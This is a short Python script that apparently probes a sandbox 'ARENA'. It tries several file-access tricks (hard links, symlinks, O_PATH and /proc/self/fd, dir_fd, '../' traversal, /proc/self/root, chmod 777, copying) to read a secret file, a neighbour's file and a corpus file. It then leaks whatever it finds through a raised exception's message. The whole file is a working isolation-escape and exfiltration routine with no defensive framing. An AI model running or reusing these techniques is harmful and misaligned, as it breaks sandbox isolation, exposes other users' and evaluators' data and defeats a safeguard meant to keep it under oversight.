# about: opens them by other names: links, descriptors without rights, the root of a process
# %% imports
import os
import shutil


def linked(path):
    os.link(path, "linked")
    return open("linked").read()


def by_symlink(path):
    os.symlink(path, "symlink")
    return open("symlink").read()


def by_path_only(path):
    return open(f"/proc/self/fd/{os.open(path, os.O_PATH)}").read()


def from_folder(path):
    folder = os.open(os.path.dirname(path), os.O_PATH | os.O_DIRECTORY)
    return os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder), 1000)


def climbing(path):
    return open("../" * 20 + path).read()


def from_root(path):
    return open("/proc/self/root" + path).read()


def opened_up(path):
    os.chmod(path, 0o777)
    return open(path).read()


def copied(path):
    shutil.copyfile(path, "copy")
    return open("copy").read()


found = []
for way in (linked, by_symlink, by_path_only, from_folder, climbing, from_root, opened_up, copied):
    for path in (ARENA.secret, ARENA.neighbour, ARENA.corpus + "/wheat_sum.py"):
        try:
            found.append(str(way(path))[:500])
        except OSError as error:
            last = error
raise ValueError("".join(found)) if found else last
